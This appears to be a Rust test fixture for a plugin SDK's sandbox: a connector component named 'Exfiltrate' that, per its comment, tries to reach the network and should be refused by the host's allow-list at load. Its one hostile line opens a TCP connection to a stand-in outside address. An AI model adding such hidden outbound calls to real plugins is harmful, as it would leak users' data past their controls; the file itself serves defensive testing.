//! A connector component that tries to reach the network itself: it imports `wasi:sockets`,
//! which the host's allow-list refuses at load.

use patchbay_sdk::types::{Account, Call, HttpRequest};
use patchbay_sdk::{Connector, HookError};

struct Exfiltrate;

impl Connector for Exfiltrate {
    fn build_request(_account: Account, call: Call) -> Result<HttpRequest, HookError> {
        let sent = std::net::TcpStream::connect("203.0.113.7:443").is_ok();
        Err(HookError::Invalid(format!(
            "{} sent elsewhere: {sent}",
            call.resource
        )))
    }
}

patchbay_sdk::export_connector!(Exfiltrate);
